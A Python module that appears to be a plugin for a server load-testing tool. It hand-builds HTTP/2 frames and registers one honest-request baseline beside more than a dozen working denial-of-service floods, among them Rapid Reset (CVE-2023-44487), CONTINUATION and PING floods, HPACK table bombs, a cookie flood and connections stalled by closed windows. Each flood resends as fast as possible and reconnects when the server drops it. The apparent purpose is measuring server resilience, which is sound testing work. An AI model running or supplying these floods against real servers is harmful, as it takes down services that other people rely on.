"""Floods over HTTP/2, for `flood`: what is known to make servers work for little, beside honest requests.

Each sends as fast as it can, reads what comes back, and connects again when the server has ended the connection. It returns
the number of bytes that it has sent. Standard library only. The static table's indexes are those of RFC 7541, appendix A.
"""

import select
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# GET or POST, http, the path, and an authority without indexing.
AUTHORITY = b"\x01\x09127.0.0.1"
GET = b"\x82\x86\x04\x0a/plaintext" + AUTHORITY
POST = b"\x83\x86\x04\x05/echo" + AUTHORITY
NOTHING_SENT_S = 0.5


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def begin(*settings):
    """Returns the client's preface, with room for all responses on the connection."""
    settings = frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", *setting) for setting in settings))
    return PREFACE + settings + frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\xff\xff")


def repeat(server, secs, first, batch, streams_max=1 << 30):
    """Sends `first`, and then `batch(stream)` again and again, which returns bytes and the next stream's number. Reads meanwhile."""
    end, sent = time.monotonic() + secs, 0
    while time.monotonic() < end:
        s = server.connect()
        s.setblocking(False)
        waiting, stream = first, 1
        try:
            while time.monotonic() < end:
                if not waiting:
                    if stream > streams_max:
                        break
                    waiting, stream = batch(stream)
                readable, writable, _ = select.select([s], [s], [], NOTHING_SENT_S)
                if readable and not s.recv(1 << 18):
                    break
                if writable:
                    taken = s.send(waiting)
                    sent, waiting = sent + taken, waiting[taken:]
        except OSError:
            pass
        finally:
            s.close()
    return sent


def each(count, per_stream):
    """A batch of `count` streams, each with what `per_stream` makes for its number."""

    def batch(stream):
        numbers = range(stream, stream + 2 * count, 2)
        return b"".join(map(per_stream, numbers)), stream + 2 * count

    return batch


def same(payload):
    """A batch that is always the same."""
    return lambda stream: (payload, stream)


def request(stream, block=GET):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def answered(server, secs):
    """Honest requests: 100 streams, and the next hundred when all are answered."""
    end, sent = time.monotonic() + secs, 0
    s = server.connect()
    s.sendall(begin())
    stream = 1
    while time.monotonic() < end:
        octets = b"".join(request(stream + 2 * at) for at in range(100))
        s.sendall(octets)
        stream, sent = stream + 200, sent + len(octets)
        ended, data = 0, b""
        while ended < 100:
            data += s.recv(1 << 18)
            while len(data) >= 9 and len(data) >= (size := 9 + int.from_bytes(data[:3], "big")):
                ended += data[3] in (DATA, HEADERS) and data[4] & END_STREAM
                data = data[size:]
    s.close()
    return sent


def stalled(server, held, secs):
    """100 streams on each of 50 connections whose windows stay closed, and which are never given room."""
    sent = 0
    octets = begin((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(1 + 2 * at) for at in range(100))
    for _ in range(50):
        s = server.connect()
        s.sendall(octets)
        held.append(s)
        sent += len(octets)
    time.sleep(secs)
    return sent


def register(flood):
    """Adds the floods with `flood`, the decorator."""

    def add(name, what, run):
        flood(name, what)(lambda server, held, secs: run(server, secs))

    add("h2", "honest requests over HTTP/2, 100 at a time on one connection", answered)
    add("h2-rapid-reset", "requests that are reset at once (CVE-2023-44487)", lambda server, secs: repeat(
        server, secs, begin(), each(100, lambda n: request(n) + frame(RST_STREAM, 0, n, b"\0\0\0\x08"))))
    add("h2-made-reset", "requests that the server is made to reset (CVE-2025-8671)", lambda server, secs: repeat(
        server, secs, begin(), each(100, lambda n: frame(HEADERS, END_HEADERS, n, POST) + frame(WINDOW_UPDATE, 0, n, bytes(4)))))
    add("h2-upload-reset", "uploads that are reset at once", lambda server, secs: repeat(
        server, secs, begin(),
        each(100, lambda n: frame(HEADERS, END_HEADERS, n, POST) + frame(DATA, 0, n, b"x") + frame(RST_STREAM, 0, n, b"\0\0\0\x08"))))
    add("h2-continuation", "field blocks without an end", lambda server, secs: repeat(
        server, secs, begin() + frame(HEADERS, END_STREAM, 1, GET), same(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * 100)))
    add("h2-ping", "PING", lambda server, secs: repeat(server, secs, begin(), same(frame(PING, 0, 0, bytes(8)) * 500)))
    add("h2-settings", "SETTINGS", lambda server, secs: repeat(server, secs, begin(), same(frame(SETTINGS, 0, 0) * 500)))
    add("h2-priority", "PRIORITY", lambda server, secs: repeat(
        server, secs, begin(), same(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 500)))
    add("h2-window-update", "WINDOW_UPDATE of one byte", lambda server, secs: repeat(
        server, secs, begin(), same(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 500)))
    add("h2-empty-data", "DATA without content", lambda server, secs: repeat(
        server, secs, begin() + frame(HEADERS, END_HEADERS, 1, POST), same(frame(DATA, 0, 1) * 500)))
    add("h2-tiny-data", "DATA of one byte", lambda server, secs: repeat(
        server, secs, begin() + frame(HEADERS, END_HEADERS, 1, POST), same(frame(DATA, 0, 1, b"x") * 500)))
    # An entry of 4,000 bytes, and references of one byte to it.
    bomb = GET + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
    add("h2-bomb", "fields of 4,000 bytes that are one byte each (CVE-2016-6581)", lambda server, secs: repeat(
        server, secs, begin() + request(1, bomb), each(20, lambda n: request(n + 2, GET + b"\xbe" * 10_000))))
    # Names of 4,000 bytes that replace one another in the table.
    churn = GET + b"\x40\x7f\xa1\x1e" + b"n" * 4_000 + b"\x00" + b"\x7e\x00" * 5_000
    add("h2-churn", "fields of two bytes that replace the largest entry of the table", lambda server, secs: repeat(
        server, secs, begin(), each(1, lambda n: request(n, churn))))
    crumbs = GET + b"\x0f\x11\x00" * 90
    add("h2-crumbs", "90 empty cookies of three bytes each (CVE-2026-49975)", lambda server, secs: repeat(
        server, secs, begin(), each(20, lambda n: request(n, crumbs))))
    flood("h2-stalled", "100 requests on each of 50 connections whose windows stay closed")(stalled)
